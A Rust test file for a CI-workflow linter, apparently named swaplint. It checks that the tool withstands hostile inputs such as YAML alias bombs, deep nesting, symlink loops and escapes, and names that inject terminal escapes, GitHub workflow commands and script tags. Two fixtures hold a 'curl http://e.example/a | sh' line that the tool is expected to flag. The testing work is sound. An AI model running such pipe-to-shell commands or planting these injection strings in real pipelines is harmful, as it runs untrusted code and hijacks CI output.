//! Files and names that nobody should write: they are borne, lead nowhere and say nothing.

use crate::cli::{OPEN, WORKFLOW, check, open};
use crate::support::{places, repository, write};
use std::fs;

/// Files that nobody should write, by name.
fn hostile() -> Vec<(&'static str, Vec<u8>)> {
    let nested = |open: &str, n: usize| format!("on: push\njobs: {}", open.repeat(n)).into_bytes();
    let script = |text: &str| format!("on: push\njobs:\n  a:\n    steps:\n      - run: |\n          {text}\n").into_bytes();
    let aliases: String = (1..30).map(|i| format!("a{i}: &a{i} [*a{0}, *a{0}, *a{0}]\n", i - 1)).collect();
    vec![
        ("empty", Vec::new()),
        ("blank", b" \n\n\t\n".to_vec()),
        ("binary", (0..=255).cycle().take(5000).collect()),
        ("not-utf8", b"on: push\njobs: {a: \xff\xfe}\n".to_vec()),
        ("nul", b"on: push\njobs:\n  a:\n    steps:\n      - run: \"a\\0b\"\n      - run: a\0b\n".to_vec()),
        ("bom", [b"\xef\xbb\xbf".as_slice(), OPEN.as_bytes()].concat()),
        ("crlf", OPEN.replace('\n', "\r\n").into_bytes()),
        ("cr", OPEN.replace('\n', "\r").into_bytes()),
        ("no-newline", OPEN.trim_end().as_bytes().to_vec()),
        ("lists", nested("[", 20_000)),
        ("maps", nested("{a: ", 20_000)),
        ("dashes", nested("\n- ", 3_000)),
        ("aliases", format!("a0: &a0 x\n{aliases}on: push\njobs: *a29\n").into_bytes()),
        ("self", b"on: push\njobs: &a\n  b: *a\n".to_vec()),
        ("subshells", script(&format!("{}crane copy a b{}", "$(".repeat(5_000), ")".repeat(5_000)))),
        ("open-brackets", script(&"((".repeat(5_000))),
        ("ifs", script(&"if a; then ".repeat(3_000))),
        ("quotes", script("cosign sign 'x \"y `z $( <<EOF")),
        ("expressions", script(&format!("${{{{ {}1 }}}}", "(".repeat(5_000)))),
        ("pipes", script(&"a | ".repeat(5_000))),
        ("scalar", b"just text".to_vec()),
        ("number", b"42".to_vec()),
        ("many", b"---\n".repeat(5_000)),
        ("jobs-number", b"on: push\njobs: 5\n".to_vec()),
        ("steps-map", b"on: push\njobs:\n  a:\n    steps: {run: x}\n".to_vec()),
        ("huge", [b"on: push\n".as_slice(), &b"# x\n".repeat(1_200_000)].concat()),
    ]
}

/// Each assignment doubles the value: a script of 200 bytes must not stand for more than there are atoms.
#[test]
fn values_that_double_are_borne() {
    let script = "x=$x$x; ".repeat(28);
    bears("doubling", format!("on: push\njobs:\n  a:\n    steps:\n      - run: |\n          {script}\n").as_bytes());
}

#[test]
fn hostile_files_are_borne() {
    for (name, bytes) in hostile() {
        bears(name, &bytes);
    }
}

/// One bad file beside a good one: both are told about, nothing panics.
fn bears(name: &str, bytes: &[u8]) {
    let dir = repository(&[]);
    write(dir.path(), WORKFLOW, bytes);
    write(dir.path(), ".github/workflows/good.yml", OPEN.as_bytes());
    let ran = check(&dir, &["--format", "json", "--persona", "auditor"]);
    assert!(ran.code < 2, "{name}: {}", ran.err);
    assert!(!ran.err.contains("panicked") && !ran.out.contains("made swaplint panic"), "{name}: {}", ran.err);
    let found = places(&ran.json());
    assert!(
        found.contains(&(".github/workflows/good.yml".to_owned(), 6, "sign-by-tag".to_owned())),
        "{name}: the other file was not judged"
    );
}

#[test]
fn line_ends_do_not_move_findings() {
    for (name, bytes) in hostile().into_iter().filter(|(n, _)| ["crlf", "bom", "no-newline"].contains(n)) {
        let dir = repository(&[]);
        write(dir.path(), WORKFLOW, &bytes);
        let found = places(&check(&dir, &["--format", "json"]).json());
        assert!(found.contains(&(WORKFLOW.to_owned(), 6, "sign-by-tag".to_owned())), "{name}: {found:?}");
        assert!(found.contains(&(WORKFLOW.to_owned(), 7, "copy-by-tag".to_owned())), "{name}: {found:?}");
    }
}

#[cfg(unix)]
#[test]
fn links_and_folders_are_borne() {
    use std::os::unix::fs::symlink;
    let dir = open();
    let folder = dir.path().join(".github/workflows");
    symlink(folder.join("loop.yml"), folder.join("loop.yml")).expect("linked");
    symlink("/dev/zero", folder.join("device.yml")).expect("linked");
    symlink(dir.path(), folder.join("circle")).expect("linked");
    fs::create_dir(folder.join("folder.yml")).expect("created");
    let ran = check(&dir, &["--format", "json"]);
    assert_eq!(ran.code, 1, "{}", ran.err);
    assert!(places(&ran.json()).contains(&(WORKFLOW.to_owned(), 6, "sign-by-tag".to_owned())), "{}", ran.out);
}

#[cfg(unix)]
#[test]
fn a_link_by_the_name_of_a_pipeline_is_one() {
    use std::os::unix::fs::symlink;
    let dir = repository(&[("notes.txt", "node { sh 'curl http://e.example/a | sh' }\n"), (WORKFLOW, OPEN)]);
    symlink("notes.txt", dir.path().join("Jenkinsfile")).expect("linked");
    symlink(dir.path().join(WORKFLOW), dir.path().join(".github/workflows/again.yml")).expect("linked");
    let report = check(&dir, &["--format", "json"]).json();
    let rules: Vec<_> = places(&report).into_iter().map(|(path, _, rule)| (path, rule)).collect();
    assert!(rules.contains(&("Jenkinsfile".to_owned(), "pipe-to-shell".to_owned())), "{rules:?}");
    assert!(rules.iter().all(|(path, _)| !path.contains("again")), "its file is told by itself: {rules:?}");
}

#[cfg(unix)]
#[test]
fn a_link_makes_a_pipeline_of_a_file_that_is_named_like_none() {
    use std::os::unix::fs::symlink;
    let job = "job:\n  script:\n    - curl http://e.example/a | sh\n";
    let dir = repository(&[("ci/real.yml", job), ("shared/wf.yml", OPEN)]);
    fs::create_dir_all(dir.path().join(".github/workflows")).expect("a folder");
    symlink("ci/real.yml", dir.path().join(".gitlab-ci.yml")).expect("linked");
    symlink("../../shared/wf.yml", dir.path().join(WORKFLOW)).expect("linked");
    symlink("../../shared/wf.yml", dir.path().join(".github/workflows/y.yml")).expect("linked");
    let report = check(&dir, &["--format", "json"]).json();
    let mut files: Vec<_> = places(&report).into_iter().map(|(path, ..)| path).collect();
    files.dedup();
    assert_eq!(files, [WORKFLOW, ".gitlab-ci.yml"], "each once");
}

#[cfg(unix)]
#[test]
fn a_config_names_nothing_outside_of_its_repository() {
    use std::os::unix::fs::symlink;
    let outside = repository(&[("secret", "{\"secret\": \"s3cr3t\"}\n"), ("p/x.rego", "package s3cr3t\n")]);
    for (name, what) in [("policy-data", "secret"), ("policies", "p"), ("tool-files", "secret"), ("baseline", "secret")] {
        let target = outside.path().join(what);
        for named in [target.display().to_string(), "link".to_owned(), format!("../../../../../..{}", target.display())] {
            let value = if name == "baseline" { format!("'{named}'") } else { format!("['{named}']") };
            let dir = repository(&[(WORKFLOW, OPEN), ("swaplint.yml", &format!("{name}: {value}\n"))]);
            symlink(&target, dir.path().join("link")).expect("linked");
            let ran = check(&dir, &[]);
            assert_eq!(ran.code, 2, "{name}: {named}: {}", ran.err);
            assert!(!ran.err.contains("s3cr3t") && !ran.out.contains("s3cr3t"), "{name}: {named}: {}", ran.err);
        }
    }
    let dir = repository(&[(WORKFLOW, OPEN)]);
    symlink(outside.path().join("secret"), dir.path().join("swaplint.yml")).expect("linked");
    let ran = check(&dir, &[]);
    assert!(ran.code == 2 && ran.err.contains("leads out of the repository") && !ran.err.contains("s3cr3t"), "{}", ran.err);
}

#[test]
fn no_line_of_an_error_is_a_command() {
    let dir = repository(&[(WORKFLOW, OPEN), ("swaplint.yml", "baseline: \"b\\n::error::told\"\n")]);
    let ran = check(&dir, &[]);
    assert!(ran.code == 2 && ran.err.contains("::error::told"), "{}", ran.err);
    assert!(ran.err.lines().all(|line| !line.trim_start().starts_with("::")), "{}", ran.err);
}

#[test]
fn terminal_codes_of_a_file_do_not_reach_the_terminal() {
    let dir = repository(&[(WORKFLOW, &OPEN.replace("app:main\n", "app:m\u{1b}[2Jain\n"))]);
    for form in ["human", "concise"] {
        let ran = check(&dir, &["--format", form]);
        assert!(!ran.out.contains('\u{1b}') && !ran.err.contains('\u{1b}'), "{form}");
    }
}

/// A repository whose own names speak to whoever reads the report.
#[cfg(unix)]
#[test]
fn names_do_not_speak() {
    let hostile = OPEN
        .replace("  release:", "  \"rel|`<script>::\\e[2J##[add-mask]\":")
        .replace("- run: cosign", "- name: \"]]><b>|`\\u202e\\0\\n::stop-commands::x\"\n        run: cosign")
        .replace("app:main\n      - run: crane", "app:<script>|main\n      - run: crane");
    let dir = repository(&[
        (WORKFLOW, &hostile),
        ("::stop-commands::x\n::add-mask::y/.gitlab-ci.yml", "a:\n  script: cosign sign a.com/b:1\n"),
    ]);
    for form in ["human", "concise", "json", "ndjson", "sarif", "github", "gitlab", "junit", "markdown"] {
        let ran = check(&dir, &["--format", form]);
        assert_eq!(ran.code, 1, "{form}: {}", ran.err);
        for line in ran.out.lines().chain(ran.err.lines()) {
            assert!(!line.contains(['\u{1b}', '\0', '\u{202e}', '\r']) && !line.contains("##["), "{form}: {line:?}");
            assert!(
                !line.trim_start().starts_with("::") || (form == "github" && line.contains(",title=swaplint/")),
                "{form}: {line}"
            );
        }
        if ["junit", "markdown"].contains(&form) {
            assert!(!ran.out.contains("<script>") && !ran.out.contains("]]>") && !ran.out.contains("<b>"), "{form}: {}", ran.out);
        }
    }
}
